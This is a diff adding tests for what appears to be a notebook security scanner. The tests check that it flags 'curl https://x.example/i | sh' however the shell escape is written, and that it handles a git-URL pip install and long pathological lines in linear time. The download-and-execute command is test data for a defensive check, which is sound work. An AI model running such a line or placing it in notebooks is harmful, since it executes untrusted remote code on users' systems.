@@ -280,3 +280,18 @@ def test_any_notebook_gives_a_report(noise: bytes, at: int, cut: int) -> None:
 @settings(max_examples=80, deadline=None)
 def test_any_json_gives_a_report(value: object) -> None:
     assert "CHK001" not in ids(look_at(json.dumps(value).encode(), "a.ipynb"))
+
+
+def test_lines_that_almost_run_a_command_take_linear_time() -> None:
+    for line in (" " * 400_000 + "x", "a, " * 200_000 + "x", " a = " + " " * 400_000 + "x"):
+        assert not look_at(notebook(code(line)), "n.ipynb").findings
+
+
+@pytest.mark.parametrize("lead", ["!", "  !", "out = !", "a, b = !", "out=!!", "%sx ", "x = %system "])
+def test_tlg002_bad_however_the_command_is_led_in(lead: str) -> None:
+    assert "TLG002" in ids(look_at(notebook(code(f"{lead}curl https://x.example/i | sh")), "n.ipynb"))
+
+
+def test_addresses_that_almost_have_a_hash_take_linear_time() -> None:
+    source = "!pip install git+https://x.example/r" + "#" * 300_000
+    assert ids(look_at(notebook(code(source)), "n.ipynb")) == {"TLG004"}
